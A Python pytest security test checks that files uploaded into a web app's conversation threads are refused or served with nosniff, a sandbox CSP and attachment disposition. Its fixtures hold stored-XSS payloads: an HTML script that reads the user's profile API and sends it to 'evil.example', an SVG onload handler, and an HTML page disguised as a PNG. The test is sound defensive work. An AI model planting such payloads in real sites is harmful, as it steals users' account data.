"""Class 4: a file an Agent uploads must never be served back as a page (or script) of our origin.

The Agent sends files in a conversation's composer as a browser would (multipart, CSRF token as
the form field and the header). Each upload is either refused, or served from `/media/…` so that
no browser runs it: `nosniff`, a `sandbox` CSP (that no middleware replaced), and as an attachment
unless it is an image, audio or video type that the thread shows inline."""

import urllib.parse

import pytest

from conftest import VICTIM, add_member, customer_writes

SCRIPT = b"<!doctype html><title>x</title><script>fetch('/api/v1/me').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script>"
UPLOADS = [
    ("invoice.html", "text/html", SCRIPT),
    ("invoice.htm", "application/xhtml+xml", SCRIPT),
    ("helper.js", "text/javascript", b"fetch('/api/v1/me')"),
    ("logo.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("photo.png", "image/png", SCRIPT),  # a page with an image's name and type
]
INLINE_OK = ("image/jpeg", "image/png", "image/webp", "audio/", "video/")


@pytest.fixture(scope="module")
def agent(app, victim):
    return add_member(app, victim, "agent", name="Andy Agent")


def served_problems(response) -> list[str]:
    headers = {k.lower(): v for k, v in response.headers.items()}
    kind = headers.get("content-type", "").split(";")[0].strip().lower()
    disposition = headers.get("content-disposition", "").strip().lower()
    csp = [p.strip().split()[0] for p in headers.get("content-security-policy", "").lower().split(";") if p.strip()]
    found = []
    if headers.get("x-content-type-options", "").lower() != "nosniff":
        found.append("no nosniff")
    if "sandbox" not in csp:
        found.append(f"no sandbox in the CSP ({headers.get('content-security-policy')!r})")
    if not disposition.startswith("attachment") and not kind.startswith(INLINE_OK):
        found.append(f"served inline as {kind!r} ({disposition!r})")
    return found


def test_uploaded_files_are_refused_or_never_served_as_pages(app, victim, agent):
    conversation = customer_writes(app, victim, VICTIM, name="Upload Customer")
    problems = {}
    for filename, content_type, content in UPLOADS:
        response = agent.http.post(f"{app.url}/inbox/{conversation['id']}/messages", allow_redirects=False, timeout=30,
                                   headers={"X-CSRF-Token": agent.csrf},
                                   data={"_csrf": agent.csrf, "caption": ""}, files={"file": (filename, content, content_type)})
        if 400 <= response.status_code < 500:
            continue  # refused: fine
        assert response.status_code in (302, 303), f"{filename}: the send answered {response.status_code}"
        listed = agent.api("GET", f"/conversations/{conversation['id']}/messages").json()
        items = listed["data"] if isinstance(listed, dict) else listed
        message = next((m for m in items if (m.get("media") or {}).get("filename") == filename), None)
        assert message and message["media"].get("url"), f"{filename}: accepted, but no message with its media"
        url = urllib.parse.urlsplit(message["media"]["url"])
        served = agent.get(url.path + (f"?{url.query}" if url.query else ""))
        if served.status_code != 200:
            continue
        if found := served_problems(served):
            problems[f"{filename} ({content_type})"] = found
    assert not problems, f"uploads served as pages of our origin: {problems}"
